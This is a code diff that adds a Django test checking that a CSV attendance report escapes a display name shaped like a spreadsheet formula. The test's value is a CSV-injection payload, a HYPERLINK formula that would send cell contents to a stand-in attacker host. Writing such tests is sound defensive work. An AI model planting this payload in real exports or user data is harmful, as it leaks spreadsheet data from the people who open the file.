@@ -156,3 +156,11 @@ def test_p27_a_member_who_paid_their_own_place_in_the_same_class_stays_private(
     page = client.get(reverse("learning:client_report", args=[attended.acme.slug]))
     totals = page.context["report"].totals
     assert totals.counts == {"present": 1, "late": 1, "absent": 0, "excused": 0}
+
+
+def test_a_name_that_looks_like_a_formula_is_plain_text_in_the_csv(client, attended):
+    attended.employee.display_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    attended.employee.save()
+    client.force_login(attended.acme_admin)
+    rows = _csv(client.get(reverse("learning:client_report", args=[attended.acme.slug, "csv"])))
+    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
